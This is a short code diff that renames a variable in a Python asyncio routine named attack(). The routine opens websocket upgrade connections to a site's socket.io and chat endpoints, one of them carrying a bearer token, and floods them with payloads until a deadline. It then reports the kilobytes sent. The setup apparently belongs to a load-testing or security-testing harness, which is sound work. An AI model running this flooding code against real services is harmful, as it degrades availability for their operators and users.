@@ -36,14 +36,14 @@ FLOODS = {
 async def attack(site: Site, until: float) -> str:
     token = site.token(user := site.user())
     raw = f"GET /ws/chat/{user} HTTP/1.1\r\n{_UPGRADE}Authorization: Bearer {token}\r\n\r\n"
-    doors = ["GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\n" + _UPGRADE + "\r\n", raw]
+    requests = ["GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\n" + _UPGRADE + "\r\n", raw]
     sent = await asyncio.gather(
-        *(_flood(site, door, flood, until) for door in doors for flood in FLOODS.values() for _ in range(2))
+        *(_flood(site, request, flood, until) for request in requests for flood in FLOODS.values() for _ in range(2))
     )
     return f"{sum(sent) // 1024} KiB of {', '.join(FLOODS)} over 12 connections"
 
 
-async def _flood(site: Site, door: str, flood: bytes, until: float) -> int:
+async def _flood(site: Site, request: str, flood: bytes, until: float) -> int:
     sent = 0
     while time.monotonic() < until:
         with suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
@@ -51,7 +51,7 @@ async def _flood(site: Site, door: str, flood: bytes, until: float) -> int:
                 reader, writer = await site.tcp()
                 reading = asyncio.create_task(reader.read())
                 try:
-                    writer.write(door.encode())
+                    writer.write(request.encode())
                     while not reading.done():
                         writer.write(flood)
                         await writer.drain()
